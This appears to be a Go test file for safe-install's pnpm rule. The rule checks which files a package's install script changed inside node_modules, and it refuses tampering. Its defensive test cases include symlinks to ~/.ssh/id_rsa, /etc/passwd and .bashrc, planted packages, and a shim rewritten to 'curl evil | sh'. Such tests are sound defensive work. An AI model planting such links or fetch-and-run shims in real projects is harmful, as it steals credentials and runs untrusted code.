package pnpm

import (
	"crypto/sha256"
	"os"
	"strings"
	"testing"

	"github.com/safe-install/safe-install/sandbox/tree"
)

func file(s string) tree.Entry { return tree.FileEntry(0o644, sha256.Sum256([]byte(s))) }
func dir() tree.Entry          { return tree.Entry{Kind: tree.Dir} }
func link(t string) tree.Entry { return tree.Entry{Kind: tree.Symlink, Target: t} }

// fetched is pnpm's layout for esbuild (which builds) and left-pad (which
// does not), as pnpm 12.23.0 lays it out.
func fetched() tree.Tree {
	return tree.Tree{
		"node_modules":                                                      dir(),
		"node_modules/.bin":                                                 dir(),
		"node_modules/.bin/esbuild":                                         tree.FileEntry(0o755, sha256.Sum256([]byte("shim"))),
		"node_modules/.modules.yaml":                                        file("{}"),
		"node_modules/.pnpm":                                                dir(),
		"node_modules/.pnpm/lock.yaml":                                      file("lock"),
		"node_modules/.pnpm/node_modules":                                   dir(),
		"node_modules/.pnpm/esbuild@0.23.1":                                 dir(),
		"node_modules/.pnpm/esbuild@0.23.1/node_modules":                    dir(),
		"node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild":            dir(),
		"node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/install.js": file("install"),
		"node_modules/.pnpm/esbuild@0.23.1/node_modules/@esbuild":           dir(),
		"node_modules/.pnpm/esbuild@0.23.1/node_modules/@esbuild/linux-x64": link("../../../@esbuild+linux-x64@0.23.1/node_modules/@esbuild/linux-x64"),
		"node_modules/.pnpm/left-pad@1.3.0":                                 dir(),
		"node_modules/.pnpm/left-pad@1.3.0/node_modules":                    dir(),
		"node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad":           dir(),
		"node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js":  file("pad"),
		"node_modules/esbuild":                                              link(".pnpm/esbuild@0.23.1/node_modules/esbuild"),
		"node_modules/left-pad":                                             link(".pnpm/left-pad@1.3.0/node_modules/left-pad"),
	}
}

func esbuildBuilt(before tree.Tree) *pnpmTree {
	return newPnpmTree(before, map[string]bool{"node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild": true},
		map[string]tree.Sum{"node_modules/.bin/esbuild": sha256.Sum256([]byte("rewritten"))}, []string{"esbuild@0.23.1"})
}

func TestRuleAcceptsTheFetchAndABuildOfItsOwn(t *testing.T) {
	after := fetched()
	after["node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/bin"] = dir()
	after["node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/bin/esbuild"] = tree.FileEntry(0o755, sha256.Sum256([]byte("ELF")))
	after["node_modules/.bin/esbuild"] = tree.FileEntry(0o755, sha256.Sum256([]byte("rewritten")))
	after["node_modules/.modules.yaml"] = file(`{"pendingBuilds":[]}`)
	after["node_modules/.cache"] = dir()
	after["node_modules/.cache/x"] = file("x")
	// node-gyp's makefiles of a dependency's target (node-pty's of
	// node-addon-api), beside the built package's node_modules.
	mk := "node_modules/.pnpm/esbuild@0.23.1/node-addon-api@7.1.1"
	after[mk] = dir()
	after[mk+"/node_modules"] = dir()
	after[mk+"/node_modules/node-addon-api"] = dir()
	after[mk+"/node_modules/node-addon-api/node_addon_api_except.target.mk"] = file("mk")
	r := esbuildBuilt(fetched())
	if name, reason := r.CheckAll(after); name != "" {
		t.Fatalf("refused %s: %s", name, reason)
	}
	if name, reason := r.Missing([]string{"node_modules"}); name != "" {
		t.Fatalf("missing %s: %s", name, reason)
	}
	if w := r.Warnings(); len(w) != 1 || !strings.Contains(w[0], "node_modules/.cache") {
		t.Fatalf("warnings %q, want one naming node_modules/.cache", w)
	}
}

func TestRuleRefuses(t *testing.T) {
	for _, c := range []struct {
		name   string
		change func(tree.Tree)
		entry  string
		reason string
	}{
		{"another package's file", func(a tree.Tree) {
			a["node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js"] = file("evil")
		}, "node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js", "left-pad@1.3.0 ran no build"},
		{"a link out of node_modules", func(a tree.Tree) {
			a["node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/key"] = link("../../../../../../home/user/.ssh/id_rsa")
		}, "node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/key", "outside node_modules"},
		{"an absolute link", func(a tree.Tree) {
			a["node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/key"] = link("/etc/passwd")
		}, "node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild/key", "outside node_modules"},
		{"a re-pointed top-level link", func(a tree.Tree) {
			a["node_modules/left-pad"] = link(".pnpm/esbuild@0.23.1/node_modules/esbuild")
		}, "node_modules/left-pad", "changed by a script"},
		{"a planted package", func(a tree.Tree) {
			a["node_modules/lodash"] = link(".pnpm/esbuild@0.23.1/node_modules/esbuild")
		}, "node_modules/lodash", "did not install"},
		{"a new virtual store entry", func(a tree.Tree) {
			a["node_modules/.pnpm/evil@1.0.0"] = dir()
		}, "node_modules/.pnpm/evil@1.0.0", "does not explain"},
		{"a shim rewritten otherwise", func(a tree.Tree) {
			a["node_modules/.bin/esbuild"] = tree.FileEntry(0o755, sha256.Sum256([]byte("curl evil | sh")))
		}, "node_modules/.bin/esbuild", "shim"},
		{"pnpm's lockfile copy", func(a tree.Tree) {
			a["node_modules/.pnpm/lock.yaml"] = file("other")
		}, "node_modules/.pnpm/lock.yaml", "record"},
		{"a dependency link in the store", func(a tree.Tree) {
			a["node_modules/.pnpm/esbuild@0.23.1/node_modules/@esbuild/linux-x64"] = link("../../../left-pad@1.3.0/node_modules/left-pad")
		}, "node_modules/.pnpm/esbuild@0.23.1/node_modules/@esbuild/linux-x64", "changed by a script"},
		{"beside the entry of a package that ran no build", func(a tree.Tree) {
			a["node_modules/.pnpm/left-pad@1.3.0/x.target.mk"] = file("mk")
		}, "node_modules/.pnpm/left-pad@1.3.0/x.target.mk", "left-pad@1.3.0 ran no build"},
		{"a project file", func(a tree.Tree) { a[".npmrc"] = file("x") }, ".npmrc", "project"},
	} {
		t.Run(c.name, func(t *testing.T) {
			after := fetched()
			c.change(after)
			name, reason := esbuildBuilt(fetched()).CheckAll(after)
			if name != c.entry || !strings.Contains(reason, c.reason) {
				t.Fatalf("refused %q (%s), want %q with %q", name, reason, c.entry, c.reason)
			}
		})
	}
}

func TestRuleRefusesADeletedFileOfAnotherPackage(t *testing.T) {
	after := fetched()
	delete(after, "node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js")
	r := esbuildBuilt(fetched())
	if name, _ := r.CheckAll(after); name != "" {
		t.Fatalf("refused %s", name)
	}
	if name, reason := r.Missing([]string{"node_modules"}); name != "node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad/index.js" {
		t.Fatalf("missing %q (%s)", name, reason)
	}
}

// The shims are pnpm 12.23.0's for esbuild 0.23.1 as the fetch made it and
// after its postinstall replaced bin/esbuild with the native binary.
func TestDirectFormIsPnpmsRewrite(t *testing.T) {
	before, err := os.ReadFile("testdata/shim-fetched")
	if err != nil {
		t.Fatal(err)
	}
	after, err := os.ReadFile("testdata/shim-built")
	if err != nil {
		t.Fatal(err)
	}
	got, target, ok := directForm(string(before))
	if !ok || got != string(after) || target != "../.pnpm/esbuild@0.23.1/node_modules/esbuild/bin/esbuild" {
		t.Fatalf("directForm: ok %v, target %q, same as pnpm's %v", ok, target, got == string(after))
	}
	if _, _, ok := directForm(string(after)); ok {
		t.Fatal("a shim already in the direct form has no second rewrite")
	}
}

func TestPackageID(t *testing.T) {
	for dir, want := range map[string]string{
		"node_modules/.pnpm/esbuild@0.23.1/node_modules/esbuild":                       "esbuild@0.23.1",
		"node_modules/.pnpm/@esbuild+linux-x64@0.23.1/node_modules/@esbuild/linux-x64": "@esbuild/linux-x64@0.23.1",
		"node_modules/.pnpm/react-dom@18.2.0_react@18.2.0/node_modules/react-dom":      "react-dom@18.2.0",
		"node_modules/left-pad": "left-pad",
	} {
		if got := packageID(dir); got != want {
			t.Errorf("packageID(%q) = %q, want %q", dir, got, want)
		}
	}
}

// A workspace package's node_modules holds links to the workspace package
// it depends on and into the root's virtual store; a script may change
// none, and a link may leave neither for anything else.
func TestRuleWorkspacePackages(t *testing.T) {
	ws := func() tree.Tree {
		t := fetched()
		t["packages"] = dir()
		t["packages/a"] = dir()
		t["packages/a/package.json"] = file("a")
		t["packages/b"] = dir()
		t["packages/b/package.json"] = file("b")
		t["packages/b/node_modules"] = dir()
		t["packages/b/node_modules/a"] = link("../../a")
		t["packages/b/node_modules/left-pad"] = link("../../../node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad")
		t["packages/b/node_modules/.bin"] = dir()
		t["packages/b/node_modules/.bin/esbuild"] = tree.FileEntry(0o755, sha256.Sum256([]byte("shim")))
		return t
	}
	rule := func() *pnpmTree {
		r := esbuildBuilt(ws())
		r.workspaces = []string{"packages/a", "packages/b"}
		return r
	}
	if name, reason := rule().CheckAll(ws()); name != "" {
		t.Fatalf("refused the fetched workspace: %s: %s", name, reason)
	}
	for _, c := range []struct {
		name   string
		change func(tree.Tree)
		entry  string
		reason string
	}{
		{"a link out of the project", func(a tree.Tree) { a["packages/b/node_modules/rc"] = link("../../../../.bashrc") },
			"packages/b/node_modules/rc", "outside node_modules"},
		{"a link to a project file", func(a tree.Tree) { a["packages/b/node_modules/x"] = link("../package.json") },
			"packages/b/node_modules/x", "outside node_modules"},
		{"a re-pointed workspace link", func(a tree.Tree) {
			a["packages/b/node_modules/a"] = link("../../../node_modules/.pnpm/left-pad@1.3.0/node_modules/left-pad")
		},
			"packages/b/node_modules/a", "changed by a script"},
		{"a planted package", func(a tree.Tree) { a["packages/b/node_modules/lodash"] = link("../../a") },
			"packages/b/node_modules/lodash", "did not install"},
		{"a changed shim", func(a tree.Tree) {
			a["packages/b/node_modules/.bin/esbuild"] = tree.FileEntry(0o755, sha256.Sum256([]byte("evil")))
		},
			"packages/b/node_modules/.bin/esbuild", "shim"},
		{"a workspace package's file", func(a tree.Tree) { a["packages/a/package.json"] = file("evil") },
			"packages/a/package.json", "project"},
	} {
		t.Run(c.name, func(t *testing.T) {
			after := ws()
			c.change(after)
			name, reason := rule().CheckAll(after)
			if name != c.entry || !strings.Contains(reason, c.reason) {
				t.Fatalf("refused %q (%s), want %q with %q", name, reason, c.entry, c.reason)
			}
		})
	}
}

func TestEntryPackage(t *testing.T) {
	for entry, want := range map[string]string{
		"node-pty@1.1.0":                "node_modules/.pnpm/node-pty@1.1.0/node_modules/node-pty",
		"@esbuild+linux-x64@0.23.1":     "node_modules/.pnpm/@esbuild+linux-x64@0.23.1/node_modules/@esbuild/linux-x64",
		"react-dom@18.3.1_react@18.3.1": "node_modules/.pnpm/react-dom@18.3.1_react@18.3.1/node_modules/react-dom",
		"lock.yaml":                     "",
		"@scope":                        "",
	} {
		if got := entryPackage(entry); got != want {
			t.Errorf("entryPackage(%q) = %q, want %q", entry, got, want)
		}
	}
}
